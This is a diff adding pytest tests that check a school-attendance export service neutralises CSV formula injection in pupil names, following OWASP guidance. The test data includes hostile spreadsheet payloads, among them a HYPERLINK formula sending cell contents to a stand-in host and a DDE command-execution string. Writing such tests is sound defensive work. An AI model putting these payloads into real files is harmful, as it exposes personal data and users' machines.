@@ -89,3 +89,28 @@ def test_write_puts_cases_scan_errors_and_documents_in_a_folder(tmp_path):
     assert json.loads((tmp_path / "out" / "errors.json").read_text()) == found["errors"] == [
         {"path": "pupils[3].parents[0].phone", "code": "invalid_phone",
          "message": "This is not a UK phone number (for example 01632 960100).", "line": 9}]
+
+
+FORMULAS = ['=HYPERLINK("http://x.example/?"&B2&C2,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\uff1dHYPERLINK(1)"]
+
+
+@pytest.mark.parametrize("forename", FORMULAS)
+def test_a_formula_in_a_name_is_text_in_the_summary(forename):
+    """OWASP CSV injection: a cell that starts a formula is written with a leading quote, and every cell
+    is quoted, so a spreadsheet shows it as the text it is."""
+    export = ctf([pupil(1, forename, "Ashworth", contacts=(contact("Kate", "Ashworth"),),
+                        years=(year_data(2026, 100, 0, 10, START, truant((9, 10, 11, 12, 13))),))])
+    given = defaults(COUNCIL_DEFAULTS, "ctf")
+    with batch.archive(run(reader.read(export), given), "notice-to-improve", "docx", Engines(), given) as archive:
+        raw = zipfile.ZipFile(archive).read("summary.csv").decode("utf-8-sig")
+    row = list(csv.reader(io.StringIO(raw)))[1]
+    assert row[2] == "'" + forename + " Ashworth"
+    assert all(line.startswith('"') for line in raw.splitlines() if line)
+
+
+def test_safe_cell_leaves_numbers_and_plain_text_alone():
+    from service.spreadsheet import safe_cell
+
+    assert [safe_cell(v) for v in ("Isla", 10, 90.5, "", "a=b", "\tx", "\rx")] == [
+        "Isla", 10, 90.5, "", "a=b", "'\tx", "'\rx"]
